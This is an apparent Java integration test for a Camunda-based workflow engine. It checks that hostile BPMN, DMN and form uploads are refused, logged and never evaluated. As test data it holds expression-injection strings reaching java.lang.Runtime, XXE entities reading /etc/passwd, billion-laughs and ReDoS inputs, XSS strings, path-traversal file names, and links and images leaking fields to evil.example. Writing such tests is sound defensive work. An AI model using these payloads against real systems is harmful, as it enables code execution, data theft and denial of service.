package org.sixstep.engine.deployment;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.camunda.bpm.engine.repository.Deployment;
import org.camunda.bpm.model.bpmn.Bpmn;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.sixstep.engine.EngineTest;

/**
 * A process owner who means harm: each model is refused at every endpoint with the code of a rule and a sentence that names file and element, nothing of it stays, and
 * the security log knows.
 */
class HostileModelIT extends EngineTest {

    private static final String MODEL = "publishAnswer.bpmn";
    private static final String TABLE = "assignPriority.dmn";
    private static final String FORM = "reviewAnswer.form";
    private static final String TASK = "<bpmn:serviceTask id=\"serviceTask_remindReviewer\" name=\"Remind reviewer\""
            + " camunda:delegateExpression=\"${remindReviewerDelegate}\">";
    private static final String CONDITION = "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">${answerDecision == 'revise'}";
    private static final String DUE = "<bpmn:timeDate xsi:type=\"bpmn:tFormalExpression\">${sla.workDaysFromNow(3)}</bpmn:timeDate>";
    private static final String REVIEW = "camunda:formRef=\"reviewAnswer\" camunda:formRefBinding=\"deployment\"";
    private static final String END = "<bpmn:endEvent id=\"endEvent_reviewerReminded\"";
    private static final String CELL = "<text>\"P0\"</text>";
    private static final String FACTS = "\"text\": \"{{facts}}\"";

    private long deployments;

    @BeforeEach
    void count() {
        canary.touched = 0;
        deployments = engine.getRepositoryService().createDeploymentQuery().count();
    }

    @AfterEach
    void takeBack() {
        engine.getRepositoryService().createDeploymentQuery().deploymentName("by hand").list()
                .forEach(deployment -> engine.getRepositoryService().deleteDeployment(deployment.getId(), true));
    }

    static Stream<Arguments> attacks() {
        return Stream.of(diagrams(), expressions(), endless(), tables(), forms()).flatMap(each -> each);
    }

    private static Stream<Arguments> diagrams() {
        return Stream.of(
                attack("a class", MODEL, TASK, TASK.replace("delegateExpression=\"${remindReviewerDelegate}", "class=\"java.lang.Runtime"),
                        ModelRule.JAVA_CLASS, "serviceTask_remindReviewer"),
                attack("a class in the old namespace", MODEL, TASK,
                        TASK.replace("camunda:delegate",
                                "xmlns:old=\"http://activiti.org/bpmn\" old:class=\"java.lang.Runtime\" camunda:delegate"),
                        ModelRule.JAVA_CLASS, "serviceTask_remindReviewer"),
                attack("a mail of its own", MODEL, TASK, TASK.replace("delegateExpression=\"${remindReviewerDelegate}", "type=\"mail"),
                        ModelRule.WORKER, "serviceTask_remindReviewer"),
                attack("an external worker", MODEL, TASK,
                        TASK.replace("delegateExpression=\"${remindReviewerDelegate}", "type=\"external\" camunda:topic=\"x"),
                        ModelRule.WORKER, "serviceTask_remindReviewer"),
                attack("a connector", MODEL, TASK,
                        TASK + inner("<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>"),
                        ModelRule.CONNECTOR, "serviceTask_remindReviewer"),
                attack("a script in a mapping", MODEL, TASK, TASK + inner(
                        "<camunda:inputOutput><camunda:inputParameter name=\"x\"><camunda:script"
                                + " scriptFormat=\"juel\">${1}</camunda:script>"
                                + "</camunda:inputParameter></camunda:inputOutput>"),
                        ModelRule.SCRIPT, "serviceTask_remindReviewer"),
                attack("a script as listener", MODEL, TASK, TASK + inner(
                        "<camunda:executionListener event=\"start\"><camunda:script"
                                + " scriptFormat=\"feel\">1</camunda:script></camunda:executionListener>"),
                        ModelRule.SCRIPT, "serviceTask_remindReviewer"),
                attack("a script from a resource", MODEL, CONDITION,
                        CONDITION.replace("xsi:type", "camunda:resource=\"deployment://x.js\" language=\"javascript\" xsi:type"),
                        ModelRule.SCRIPT_RESOURCE, "flow_answerToRevise"),
                attack("a condition as script", MODEL, CONDITION,
                        CONDITION.replace("xsi:type", "language=\"juel\" xsi:type").replace("answerDecision == 'revise'",
                                "''.getClass().getName() == 'x'"),
                        ModelRule.SCRIPT_LANGUAGE, "flow_answerToRevise"),
                attack("injection into a delegate", MODEL, TASK,
                        TASK + inner("<camunda:field name=\"records\"><camunda:string>x</camunda:string></camunda:field>"),
                        ModelRule.FIELD_INJECTION, "serviceTask_remindReviewer"),
                attack("a page as form", MODEL, REVIEW, "camunda:formKey=\"embedded:deployment:evil.html\"",
                        ModelRule.FORM_KEY, "userTask_reviewAnswer"),
                attack("a foreign address as form", MODEL, REVIEW, "camunda:formKey=\"https://evil.example/form\"",
                        ModelRule.FORM_KEY, "userTask_reviewAnswer"),
                attack("a script as form", MODEL, REVIEW, "camunda:formKey=\"javascript:alert(1)\"", ModelRule.FORM_KEY,
                        "userTask_reviewAnswer"),
                attack("a step without form", MODEL, REVIEW, "", ModelRule.TASK_WITHOUT_FORM, "userTask_reviewAnswer"),
                attack("a step whose form only seems to be one", MODEL, REVIEW, "xmlns:other=\"x\" other:formRef=\"reviewAnswer\"",
                        ModelRule.TASK_WITHOUT_FORM, "userTask_reviewAnswer"),
                attack("a form by expression", MODEL, "camunda:formRef=\"reviewAnswer\"", "camunda:formRef=\"${answerDecision}\"",
                        ModelRule.COMPUTED_REFERENCE, "userTask_reviewAnswer"),
                attack("a process by expression", "supportTicket.bpmn", "calledElement=\"resolveProblem\"", "calledElement=\"${outcome}\"",
                        ModelRule.COMPUTED_REFERENCE, "callActivity_resolveProblem"),
                attack("whatever is deployed next", "supportTicket.bpmn", " camunda:calledElementBinding=\"deployment\"", "",
                        ModelRule.CALL_LATEST, "callActivity_resolveProblem"),
                attack("what only seems to be deployed with it", "supportTicket.bpmn", "camunda:calledElementBinding",
                        "xmlns:other=\"x\" other:calledElementBinding", ModelRule.CALL_LATEST, "callActivity_resolveProblem"),
                attack("a case", MODEL, TASK, TASK.replace("camunda:delegate", "camunda:caseRef=\"x\""
                        + " camunda:delegate"), ModelRule.CMMN_CASE, "serviceTask_remindReviewer"),
                attack("another's record by mapping", MODEL, TASK, TASK + inner(
                        "<camunda:inputOutput><camunda:inputParameter"
                                + " name=\"ticketId\">1</camunda:inputParameter></camunda:inputOutput>"),
                        ModelRule.RECORD_ID, "serviceTask_remindReviewer"),
                attack("the text of an error", MODEL, "</bpmn:process>",
                        "<bpmn:boundaryEvent id=\"boundary_leak\" attachedToRef=\"userTask_reviewAnswer\"><bpmn:errorEventDefinition"
                                + " camunda:errorMessageVariable=\"leak\" />"
                                + "</bpmn:boundaryEvent></bpmn:process>",
                        ModelRule.ERROR_TEXT, "boundary_leak"),
                attack("an exception by its class", MODEL, "</bpmn:definitions>",
                        "<bpmn:error id=\"error_any\" errorCode=\"java.lang.RuntimeException\" /></bpmn:definitions>",
                        ModelRule.JAVA_EXCEPTION, "error_any"),
                attack("another's record by list", "resolveProblem.bpmn", "camunda:elementVariable=\"collaborator\" />",
                        "><bpmn:inputDataItem name=\"ticketId\" /></bpmn:multiInstanceLoopCharacteristics>", ModelRule.RECORD_ID,
                        "ticketId"),
                attack("another's record by call", "supportTicket.bpmn", "source=\"ticketId\" target=\"ticketId\"",
                        "source=\"owner\" target=\"ticketId\"", ModelRule.RECORD_ID, "callActivity_resolveProblem"),
                attack("another's record by constant", "supportTicket.bpmn", "source=\"ticketId\" target=\"ticketId\"",
                        "sourceExpression=\"${'x'}\" target=\"ticketId\"", ModelRule.RECORD_ID, "callActivity_resolveProblem"),
                attack("another's record by result", MODEL, TASK,
                        TASK.replace("delegateExpression=\"${remindReviewerDelegate}",
                                "expression=\"${'x'}\" camunda:resultVariable=\"answerId"),
                        ModelRule.RECORD_ID, "serviceTask_remindReviewer"),
                attack("a signal to everybody", MODEL, "<bpmn:messageEventDefinition messageRef=\"message_answerDrafted\" />",
                        "<bpmn:signalEventDefinition />", ModelRule.SIGNAL, "startEvent_answerDrafted"),
                attack("an event of two kinds", MODEL, "<bpmn:messageEventDefinition messageRef=\"message_answerDrafted\" />",
                        "<bpmn:messageEventDefinition messageRef=\"message_answerDrafted\" /><bpmn:linkEventDefinition name=\"x\" />",
                        ModelRule.EVENT_OF_SEVERAL_KINDS, "startEvent_answerDrafted"),
                attack("no start event for"
                        + " problems", "supportTicket.bpmn", "name=\"support.problemReceived\"", "name=\"support.nothing\"",
                        ModelRule.MESSAGE_START, "supportTicket"),
                attack("a document type", MODEL, "<bpmn:definitions", "<!DOCTYPE x SYSTEM \"http://127.0.0.1:9/x.dtd\"><bpmn:definitions",
                        ModelRule.XML_DOCTYPE, ""),
                attack("a file as entity", MODEL, "<bpmn:definitions",
                        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><bpmn:definitions", ModelRule.XML_DOCTYPE, ""),
                attack("a billion laughs", TABLE, "<definitions",
                        "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\">]><definitions", ModelRule.XML_DOCTYPE, ""),
                attack("a deep document", MODEL, "<bpmn:message id",
                        "<bpmn:documentation>" + "<x>".repeat(5000) + "</x>".repeat(5000) + "</bpmn:documentation><bpmn:message id",
                        ModelRule.XML_SIZE, "levels"),
                attack("a wide document", MODEL, "<bpmn:message id", "<bpmn:message name=\"x\"/>".repeat(25_000) + "<bpmn:message id",
                        ModelRule.XML_SIZE, "20000"));
    }

    private static Stream<Arguments> expressions() {
        return Stream.of("${''.getClass().forName('java.lang.Runtime')}", "${''.class.classLoader}", "${''['class']}",
                "${''['getClass']()}", "${dataSource.connection}", "${jdbcTemplate.execute('x')}",
                "${environment['sixstep.link-secret']}", "${repositoryService.createDeployment()}", "${execution.processEngineServices}",
                "${execution.setVariable('ticketId', 'x')}",
                "${task.complete()}", "${'x'.repeat(2000000000)}", "${'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!'.matches('(a+)+$')}",
                "${''.format('%2000000000d', 1)}",
                "${S('[]').mapTo('org.springframework.context.support.ClassPathXmlApplicationContext')}", "${JSON('{}').unwrap()}",
                "${dateTime().zone.setDefault(dateTime().zone)}",
                "${remindReviewerDelegate.setTargetSource(null)}",
                "${".concat("(".repeat(600)).concat("1").concat(")".repeat(600)).concat("}"), "${T(java.lang.Runtime)}", "#{environment}")
                .flatMap(expression -> Stream.of(
                        attack("listener " + expression, MODEL, TASK,
                                TASK + inner("<camunda:executionListener event=\"start\" expression=\"" + expression + "\" />"),
                                ModelRule.EXPRESSION, "serviceTask_remindReviewer"),
                        attack("condition " + expression, MODEL, CONDITION,
                                "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">" + expression, ModelRule.EXPRESSION,
                                "flow_answerToRevise")));
    }

    private static Stream<Arguments> endless() {
        return Stream.of(circles(), forks(), timersAndCopies()).flatMap(each -> each);
    }

    private static Stream<Arguments> circles() {
        String works = "<bpmn:serviceTask id=\"in\" camunda:expression=\"${true}\" />";
        String waits = "<bpmn:userTask id=\"in\" camunda:formRef=\"reviewAnswer\" camunda:formRefBinding=\"deployment\" />";
        String began = "<bpmn:startEvent id=\"begun\" />" + flow("begun", "in");
        String list = "<bpmn:multiInstanceLoopCharacteristics camunda:collection=\"${ticketRecord.collaborators(ticketId)}\" />";
        return Stream.of(
                circle("a step that follows itself", flow("serviceTask_remindReviewer", "serviceTask_remindReviewer")),
                circle("a circle by an error", failure("") + flow("failed", "serviceTask_remindReviewer")),
                circle("a circle by an error that looks like a timer",
                        failure(inner("<bpmn:timerEventDefinition />")) + flow("failed", "serviceTask_remindReviewer")),
                circle("a circle through a stage", again(stage(began + works + flow("in", "done") + "<bpmn:endEvent id=\"done\" />"))),
                circle("a circle through a stage without an end", again(stage(began + works))),
                circle("a circle through a stage that only seems to go on",
                        again(stage(began + works.replace(" />", ">" + inner(flow("in", "done")) + "</bpmn:serviceTask>")))),
                circle("a circle through a stage that an event ends",
                        again(stage(began + waits + eventStage("<bpmn:errorEventDefinition />", "")))),
                circle("a circle by a link",
                        "<bpmn:intermediateThrowEvent id=\"leaves\"><bpmn:linkEventDefinition name=\"x\""
                                + " /></bpmn:intermediateThrowEvent><bpmn:intermediateCatchEvent id=\"comes\">"
                                + "<bpmn:linkEventDefinition name=\"x\" /></bpmn:intermediateCatchEvent>"
                                + flow("serviceTask_remindReviewer", "leaves") + flow("comes", "serviceTask_remindReviewer")),
                circle("a circle through a list that may be empty",
                        again(waits.replace("\"in\"", "\"again\"").replace(" />", ">" + list + "</bpmn:userTask>"))),
                circle("a circle through a stage for a list that may be empty", again(stage(began + waits + list))),
                circle("a circle over a date that has passed", again(
                        "<bpmn:intermediateCatchEvent"
                                + " id=\"again\"><bpmn:timerEventDefinition><bpmn:timeDate>2020-01-01T00:00:00</bpmn:timeDate>"
                                + "</bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>")),
                circle("a circle over a date that an expression writes", again(
                        "<bpmn:intermediateCatchEvent"
                                + " id=\"again\"><bpmn:timerEventDefinition><bpmn:timeDate>${'2020-01-01T00:00:00'}</bpmn:timeDate>"
                                + "</bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>")),
                circle("an event that begins itself",
                        eventStage("<bpmn:escalationEventDefinition />", "<bpmn:escalationEventDefinition />")),
                attack("a condition that holds already", MODEL, END, again(
                        "<bpmn:intermediateCatchEvent"
                                + " id=\"again\"><bpmn:conditionalEventDefinition><bpmn:condition>${true}</bpmn:condition>"
                                + "</bpmn:conditionalEventDefinition></bpmn:intermediateCatchEvent>")
                        + END, ModelRule.CONDITIONAL_EVENT, "again"));
    }

    private static Stream<Arguments> forks() {
        String timer = "<bpmn:intermediateCatchEvent"
                + " id=\"again\"><bpmn:timerEventDefinition><bpmn:timeDate>${sla.workDaysFromNow(1)}</bpmn:timeDate></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>";
        String gateway = "<bpmn:parallelGateway id=\"both\" />" + flow("again", "both");
        return Stream.of(
                fork("two tokens of one",
                        timer + gateway + flow("both", "again")
                                + "<bpmn:sequenceFlow id=\"second\" sourceRef=\"both\" targetRef=\"again\" />"),
                fork("two tokens of one without a gateway",
                        again(timer) + "<bpmn:sequenceFlow id=\"second\" sourceRef=\"again\""
                                + " targetRef=\"serviceTask_remindReviewer\" />"),
                fork("two tokens of one over ways of their own",
                        timer + gateway + flow("both", "one") + flow("both", "two")
                                + "<bpmn:exclusiveGateway id=\"one\" /><bpmn:exclusiveGateway id=\"two\" />"
                                + flow("one", "again") + flow("two", "again")),
                fork("a reminder that begins its task again", flow("serviceTask_remindReviewer", "userTask_reviewAnswer")));
    }

    private static Stream<Arguments> timersAndCopies() {
        return Stream.of(
                attack("a process that calls itself", "resolveProblem.bpmn", "<bpmn:message id=\"message_reporterAnswered\"",
                        "<bpmn:process id=\"again\" isExecutable=\"true\" camunda:historyTimeToLive=\"P1D\"><bpmn:startEvent id=\"a\" />"
                                + "<bpmn:sequenceFlow id=\"b\" sourceRef=\"a\" targetRef=\"c\" /><bpmn:callActivity id=\"c\""
                                + " calledElement=\"again\" camunda:calledElementBinding=\"deployment\" /></bpmn:process><bpmn:message"
                                + " id=\"message_reporterAnswered\"",
                        ModelRule.CALL_ENDLESS, "element c "),
                attack("a timer of a millisecond", MODEL, DUE, "<bpmn:timeCycle>R/PT0.001S</bpmn:timeCycle>",
                        ModelRule.TIMER, "event_reviewOverdue"),
                attack("a timer of nothing", MODEL, DUE, "<bpmn:timeCycle>R/PT0S</bpmn:timeCycle>",
                        ModelRule.TIMER, "event_reviewOverdue"),
                attack("a timer since the beginning of time", MODEL, DUE, "<bpmn:timeCycle>R/1970-01-01T00:00:00/PT1M</bpmn:timeCycle>",
                        ModelRule.TIMER, "R/1970-01-01T00:00:00/PT1M"),
                attack("a timer of each second", MODEL, DUE, "<bpmn:timeCycle>* * * * * ?</bpmn:timeCycle>",
                        ModelRule.TIMER, "* * * * * ?"),
                attack("a wait of nothing", MODEL, DUE, "<bpmn:timeDuration>PT0S</bpmn:timeDuration>",
                        ModelRule.TIMER, "event_reviewOverdue"),
                attack("a thousand million copies", MODEL, TASK, TASK
                        + "<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>1000000000</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>",
                        ModelRule.MULTI_INSTANCE_NUMBER, "serviceTask_remindReviewer"),
                attack("copies by expression", MODEL, TASK, TASK
                        + "<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>${1000000000}</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>",
                        ModelRule.MULTI_INSTANCE_NUMBER, "serviceTask_remindReviewer"),
                attack("copies of copies", MODEL, END, "<bpmn:subProcess id=\"many\">"
                        + "<bpmn:serviceTask"
                        + " id=\"each\"><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>50</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>"
                        + "</bpmn:serviceTask><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>50</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics></bpmn:subProcess>"
                        + END,
                        ModelRule.MULTI_INSTANCE_NESTED, "element each "),
                attack("copies of a process with copies", "supportTicket.bpmn",
                        "calledElement=\"resolveProblem\" camunda:calledElementBinding=\"deployment\">",
                        "calledElement=\"resolveProblem\" camunda:calledElementBinding=\"deployment\">"
                                + "<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>50</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>",
                        ModelRule.CALL_REPEATED, "callActivity_resolveProblem"),
                attack("retries without end", MODEL, TASK,
                        TASK + inner("<camunda:failedJobRetryTimeCycle>R1000000/PT0S</camunda:failedJobRetryTimeCycle>"),
                        ModelRule.RETRY_CYCLE, "serviceTask_remindReviewer"),
                attack("the first place in the queue", MODEL, TASK,
                        TASK.replace("camunda:delegate", "camunda:jobPriority=\"2147483647\" camunda:delegate"),
                        ModelRule.JOB_PRIORITY, "serviceTask_remindReviewer"));
    }

    private static Stream<Arguments> tables() {
        return Stream.of(
                Stream.of("juel", "javascript", "groovy", "Python")
                        .map(language -> attack("a table in " + language, TABLE, "<inputExpression ",
                                "<inputExpression expressionLanguage=\"" + language + "\" ",
                                ModelRule.TABLE_LANGUAGE, language)),
                Stream.of("count(for i in 1..1000000000 return i)", "matches(\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!\", \"(a+)+$\")",
                        "replace(\"a\", \"(a+)+$\", \"b\")", "decimal(1, 999999999)",
                        "number(\"1E999999999\")", "{a: \"xxxxxxxxxx\", b: a + a}.b", "summary.class.classLoader", "summary.getClass()",
                        "2 ** 999999999", "(function(x) external {java: {class: \"java.lang.Runtime\", "
                                + "method signature: \"getRuntime()\"}})(1)",
                        "some x in [1,2] satisfies x = 1", "[1, 2][item > 0][item > 0]", "floor(1, 300000000)",
                        "ceiling(1, 300000000)", "floor(n: 1, scala: 300000000)", "1e999999999", "distinct values(checks)",
                        "index of(checks, 1)", "concatenate(checks, checks)", "duration(summary)",
                        "contains(summary, summary)", "substring after(summary, summary)", "summary" + " + summary".repeat(11),
                        "if a in ".repeat(7) + "a" + " then ? else ?".repeat(7), "abs((abs((abs((1))))))",
                        "(".repeat(7) + "1", "(]".repeat(4) + "1", "`\"` + " + "(".repeat(7) + "1", "/* \" */" + "(".repeat(7) + "1",
                        "// \"\n" + "[".repeat(7) + "1")
                        .map(feel -> attack("FEEL " + feel, TABLE, CELL, "<text>" + feel + "</text>", ModelRule.FEEL,
                                "assignPriority.dmn: the element ")),
                Stream.of(attack("a file full of FEEL", TABLE, CELL, "<text>" + "1".repeat(100_001) + "</text>",
                        ModelRule.FEEL_SIZE, "assignPriority.dmn")))
                .flatMap(each -> each);
    }

    private static Stream<Arguments> forms() {
        return Stream.of(
                attack("a page of HTML", FORM, "\"type\": \"text\"", "\"type\": \"html\", \"content\": \"<b>x</b>\"",
                        ModelRule.FIELD_TYPE, "html"),
                attack("a frame", FORM, "\"type\": \"text\"", "\"type\": \"iframe\", \"url\": \"https://evil.example\"",
                        ModelRule.FIELD_TYPE, "iframe"),
                attack("a picture that tells", FORM, "\"type\": \"text\"",
                        "\"type\": \"image\", \"source\": \"=\\\"https://evil.example/\\\" + reporterName\"", ModelRule.FIELD_TYPE,
                        "image"),
                attack("a link", FORM, FACTS, "\"text\": \"[click here](https://evil.example/{{facts}})\"", ModelRule.TEXT_ADDRESS,
                        "the field "),
                attack("a link by reference", FORM, FACTS, "\"text\": \"[click here][x]\"", ModelRule.TEXT_ADDRESS, "the field "),
                attack("a bare address", FORM, FACTS, "\"text\": \"see www.evil.example\"", ModelRule.TEXT_ADDRESS, "the field "),
                attack("a script", FORM, FACTS, "\"text\": \"[x](javascript:alert(1))\"", ModelRule.TEXT_ADDRESS, "the field "),
                attack("HTML", FORM, FACTS, "\"text\": \"<img src=x onerror=alert(1)>\"", ModelRule.TEXT_ADDRESS, "the field "),
                attack("a computed text", FORM, FACTS, "\"text\": \"=\\\"ht\\\" + \\\"tps://evil.example/\\\" + reporterName\"",
                        ModelRule.TEXT_EXPRESSION, "the field "),
                attack("a computed part", FORM, FACTS, "\"text\": \"{{\\\"ht\\\" + \\\"tps://evil.example/\\\" + reporterName}}\"",
                        ModelRule.TEXT_BRACES, "the field "),
                attack("an endless condition", FORM, FACTS,
                        FACTS + ", \"conditional\": {\"hide\": \"=count(for i in 1..1000000000 return i) > 0\"}",
                        ModelRule.FEEL, "the field "),
                attack("many conditions", FORM, FACTS,
                        FACTS + "}" + ", {\"type\": \"text\", \"conditional\": {\"hide\": \"=true\"}}".repeat(101)
                                + ", {\"type\": \"text\"",
                        ModelRule.FORM_CONDITIONS, "100"),
                attack("a condition in brackets", FORM, FACTS, FACTS + ", \"conditional\": {\"hide\": \"=" + "(".repeat(40) + "1\"}",
                        ModelRule.FEEL, "the field "),
                attack("a pattern of copies", FORM, FACTS, FACTS + ", \"validate\": {\"pattern\": \"((){2000000000}){2000000000}\"}",
                        ModelRule.FIELD_PATTERN, "the field "),
                attack("a pattern that looks ahead", FORM, FACTS, FACTS + ", \"validate\": {\"pattern\": \"^(?=.*x)(.+)+$\"}",
                        ModelRule.FIELD_PATTERN, "(?="),
                attack("a limit that is computed", FORM, FACTS, FACTS + ", \"validate\": {\"max\": \"=limit\"}", ModelRule.FIELD_UNCHECKED,
                        "validate.max"),
                attack("a limit of another library", FORM, FACTS, FACTS + ", \"validate\": {\"maxItems\": 3}", ModelRule.FIELD_UNCHECKED,
                        "validate.maxItems"),
                attack("a kind of text that nobody knows", FORM, FACTS, FACTS + ", \"validate\": {\"validationType\": \"iban\"}",
                        ModelRule.FIELD_UNCHECKED, "validate.validationType"),
                attack("a field that is read-only at times", FORM, FACTS, FACTS + ", \"readonly\": \"=done\"", ModelRule.FIELD_UNCHECKED,
                        "readonly"),
                attack("places that are no number", FORM, FACTS, FACTS + ", \"decimalDigits\": \"two\"", ModelRule.FIELD_UNCHECKED,
                        "decimalDigits"),
                attack("a step that is no number", FORM, FACTS, FACTS + ", \"increment\": \"=step\"", ModelRule.FIELD_UNCHECKED,
                        "increment"),
                attack("a time that nobody knows", FORM, FACTS, FACTS + ", \"subtype\": \"week\"", ModelRule.FIELD_UNCHECKED, "subtype"),
                attack("days to come only", FORM, FACTS, FACTS + ", \"disallowPassedDates\": true", ModelRule.FIELD_UNCHECKED,
                        "disallowPassedDates"),
                attack("values that are computed", FORM, FACTS, FACTS + ", \"valuesExpression\": \"=list\"", ModelRule.FIELD_UNCHECKED,
                        "valuesExpression"),
                attack("a text that is a field", FORM, FACTS, "\"text\": \"{{reviewComment}}\"",
                        ModelRule.FIELD_DISPLAYED, "reviewComment"),
                attack("a deep form", FORM, "\"components\": [", "\"x\": " + "[".repeat(5000) + "]".repeat(5000) + ", \"components\": [",
                        ModelRule.FORM, "reviewAnswer.form"),
                attack("two keys of one name", FORM, "\"components\": [", "\"components\": [], \"components\": [", ModelRule.FORM,
                        "reviewAnswer.form"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("attacks")
    void isRefusedAtTheEngineApi(String name, String file, String right, String wrong, ModelRule rule, String named) {
        Map<String, String> files = changed(file, right, wrong);

        HttpResponse<String> answer = deploy("owner", DeploymentRoutes.body(files));

        assertRefused(answer, file, rule, named);
    }

    @Test
    void isRefusedAtTheWebApplicationsToo() {
        Browser browser = new Browser().login("owner");
        attacks().map(Arguments::get)
                .filter(attack -> attack[0].toString().matches("a (class|connector|link|document type|timer of nothing|table in juel)"))
                .forEach(attack -> {
                    Map<String, String> files = changed(attack[1].toString(), attack[2].toString(), attack[3].toString());
                    HttpResponse<String> answer = browser.send(DeploymentRoutes.WEB_APPLICATIONS, DeploymentRoutes.MULTIPART,
                            DeploymentRoutes.body(files));
                    assertRefused(answer, attack[1].toString(), (ModelRule) attack[4], attack[5].toString());
                });
    }

    @Test
    void whatStoodInTheDatabaseIsRefusedWhenItIsDeployedAgain() {
        assertThat(deploy("owner", DeploymentRoutes.body(DeploymentRoutes.files())).statusCode()).isEqualTo(200);
        Deployment good = engine.getRepositoryService().createDeploymentQuery().deploymentName("by hand").singleResult();
        jdbc.sql("update act_ge_bytearray set bytes_ = :bytes where deployment_id_ = :deployment and name_ = :name")
                .param("deployment", good.getId()).param("name", MODEL)
                .param("bytes", DeploymentRoutes.files().get(MODEL)
                        .replace(TASK, TASK.replace("camunda:delegate", "camunda:class=\"java.lang.Runtime\""
                                + " camunda:delegate"))
                        .getBytes())
                .update();
        deployments++;

        assertRefused(post("owner", "/engine-rest/deployment/" + good.getId() + "/redeploy", "{}"), MODEL,
                ModelRule.JAVA_CLASS, "serviceTask_remindReviewer");
    }

    @ParameterizedTest
    @MethodSource("names")
    void aFileOfAnotherKindOrNameIsRefused(String name) {
        HttpResponse<String> answer = deploy("owner", DeploymentRoutes.body(Map.of(name, "<html><script>alert(1)</script></html>")));

        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(400);
        assertThat(engine.getRepositoryService().createDeploymentQuery().count()).isEqualTo(deployments);
    }

    static Stream<String> names() {
        return Stream.of("evil.html", "evil.js", "evil.cmmn", "evil.bpmn20.xml", "evil.dmn11.xml", "evil.svg", "../../evil.bpmn",
                "..\\evil.bpmn", "evil.bpmn/", ".bpmn", "a;b.bpmn",
                "x".repeat(300) + ".bpmn", "BOOT-INF/../evil.form");
    }

    @Test
    void aBigFileAndManyFilesAreRefused() {
        assertThat(deploy("owner", DeploymentRoutes.body(Map.of("big.bpmn", "<x>" + "y".repeat(2_100_000) + "</x>"))).body())
                .contains("big.bpmn", code(ModelRule.FILE_SIZE));
        Map<String, String> many = IntStream.range(0, 300).boxed().collect(Collectors.toMap(i -> "f" + i + ".form", i -> "{}"));
        assertThat(deploy("owner", DeploymentRoutes.body(many)).body()).contains(code(ModelRule.DEPLOYMENT_SIZE));
    }

    @Test
    void manyProcessesAndManyStartsByTimerAreRefused() {
        assertThat(deploy("owner", DeploymentRoutes.body(Map.of("many.bpmn", definitions(51, "")))).body())
                .contains(code(ModelRule.PROCESSES));
        String timer = "<bpmn:startEvent><bpmn:timerEventDefinition><bpmn:timeCycle>R/PT1M</bpmn:timeCycle></bpmn:timerEventDefinition></bpmn:startEvent>";
        assertThat(deploy("owner", DeploymentRoutes.body(Map.of("many.bpmn", definitions(1, timer.repeat(51))))).body())
                .contains(code(ModelRule.PROCESSES));
    }

    private static String definitions(int processes, String inside) {
        return IntStream.range(0, processes)
                .mapToObj(i -> "<bpmn:process id=\"p" + i + "\" isExecutable=\"true\">" + inside + "</bpmn:process>")
                .collect(Collectors.joining("",
                        "<bpmn:definitions xmlns:bpmn=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" targetNamespace=\"x\">",
                        "</bpmn:definitions>"));
    }

    @Test
    void whatIsDoneAtTheSameTimeInAStageMayBeDoneAgain() {
        var model = Bpmn.createExecutableProcess("together").camundaHistoryTimeToLive(1).startEvent().userTask("userTask_plan")
                .subProcess("stage").embeddedSubProcess().startEvent()
                .parallelGateway("both").userTask("userTask_one").parallelGateway("joined").endEvent().moveToNode("both")
                .userTask("userTask_two").connectTo("joined").subProcessDone()
                .connectTo("userTask_plan").done();

        engine.getRepositoryService().createDeployment().name("by hand").addModelInstance("together.bpmn", model).deploy();

        assertThat(engine.getRepositoryService().createDeploymentQuery().count()).isEqualTo(deployments + 1);
    }

    @Test
    void aTenantIsRefused() {
        assertThat(deploy("owner", DeploymentRoutes.body(DeploymentRoutes.files(), "tenant-id", "other")).body())
                .contains(code(ModelRule.TENANT));
    }

    @Test
    void theProcedureItselfIsAcceptedAndTheLogKnowsWhoBroughtIt() {
        HttpResponse<String> answer = deploy("owner", DeploymentRoutes.body(DeploymentRoutes.files()));

        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
        assertThat(jdbc.sql(
                "select actor || ' ' || (details ->> 'name') || ' ' || (details ->> 'definitions') from sixstep.security_event where kind"
                        + " = 'modelDeployed' order by at desc limit 1")
                .query(String.class).single()).startsWith("owner by hand ").contains("supportTicket:").contains("assignPriority:");
    }

    @Test
    void whoMayNotDeployIsInTheLog() {
        assertThat(deploy("agent", DeploymentRoutes.body(DeploymentRoutes.files())).statusCode()).isEqualTo(403);
        assertThat(refusals("agent")).isEqualTo("not allowed to deploy");
    }

    private void assertRefused(HttpResponse<String> answer, String file, ModelRule rule, String named) {
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(400);
        assertThat(answer.body()).contains(file, named, code(rule));
        assertThat(engine.getRepositoryService().createDeploymentQuery().count()).as("deployments").isEqualTo(deployments);
        assertThat(canary.touched).as("evaluated").isZero();
        assertThat(refusals("owner")).contains(named, code(rule));
    }

    private static String code(ModelRule rule) {
        return "[" + rule.code() + "]";
